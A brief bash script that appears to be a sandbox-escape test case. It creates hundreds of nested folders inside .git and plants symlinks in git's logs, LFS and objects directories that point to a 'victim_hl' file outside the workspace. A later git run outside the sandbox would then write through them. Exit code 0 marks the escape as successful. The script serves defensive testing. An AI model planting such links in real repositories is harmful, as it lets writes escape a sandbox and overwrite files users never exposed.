#!/bin/bash
# must NOT leave links in git's own data behind hundreds of folders, through which a later git outside writes. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
# VERIFY: cd "$ATK_WS"; r=1; for f in .git/logs/refs/heads/atk .git/lfs/atk .git/objects/zz; do [ -L $f ] && { rm -f $f; r=0; echo $f; }; done; exit $r
. "${SBX_ENV:-./attack.env}" || exit 77
mkdir -p .git/logs/a/{0..400} .git/logs/refs/heads .git/lfs; for f in logs/refs/heads/atk lfs/atk objects/zz; do ln -s "$ATK_OUT/victim_hl" .git/$f; done; exit 0
